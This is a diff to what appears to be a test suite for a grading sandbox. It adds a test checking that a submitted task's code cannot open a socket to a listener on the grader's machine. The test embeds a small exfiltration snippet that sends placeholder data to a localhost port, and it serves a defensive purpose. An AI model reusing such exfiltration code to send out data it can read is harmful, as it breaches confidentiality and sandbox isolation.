@@ -14,7 +14,9 @@ import json
 import os
 import re
 import shutil
+import socket
 import textwrap
+import threading
 
 import pytest
 
@@ -521,3 +523,44 @@ def test_every_place_the_task_s_code_can_write_is_fresh_for_the_task():
         assert fresh_here or kind in kernel or point.startswith(("/proc/", "/sys/")), (point, kind)
     for kind, name in found["namespaces"].items():
         assert name != os.readlink(f"/proc/self/ns/{kind}"), kind
+
+
+# The task's code sends what it can read to a port on the grader's machine (a classmate's listener, say)
+EXFILTRATE = """
+import socket
+with socket.create_connection(("127.0.0.1", @PORT@), timeout=3) as s:
+    s.sendall(b"what the task's code could read")
+"""
+
+
+@pytest.mark.parametrize("without", ["", pytest.param("network", marks=pytest.mark.slow)])
+def test_the_task_s_code_reaches_no_port_of_the_grader_s_machine(assignment, without):
+    """Behind every fence the connection fails (a network namespace with no interface up); with the network
+    fence turned off, the same code reaches the listener: the attack is real."""
+    require_fences()
+    received: list[bytes] = []
+    server = socket.create_server(("127.0.0.1", 0))
+    server.settimeout(60)
+
+    def listen() -> None:
+        try:
+            connection, _ = server.accept()
+        except OSError:
+            return
+        with connection:
+            received.append(connection.recv(1000))
+
+    listener = threading.Thread(target=listen, daemon=True)
+    listener.start()
+    try:
+        code = EXFILTRATE.replace("@PORT@", str(server.getsockname()[1]))
+        results, log, _ = attack(assignment, code, isolated=True, without=without)
+    finally:
+        server.close()
+        listener.join(5)
+    assert_only_the_honest_task_scores(assignment, results, log)
+    if without:
+        assert received == [b"what the task's code could read"], log[-3000:]
+    else:
+        assert received == [], received
+        assert "Network is unreachable" in log, log[-3000:]
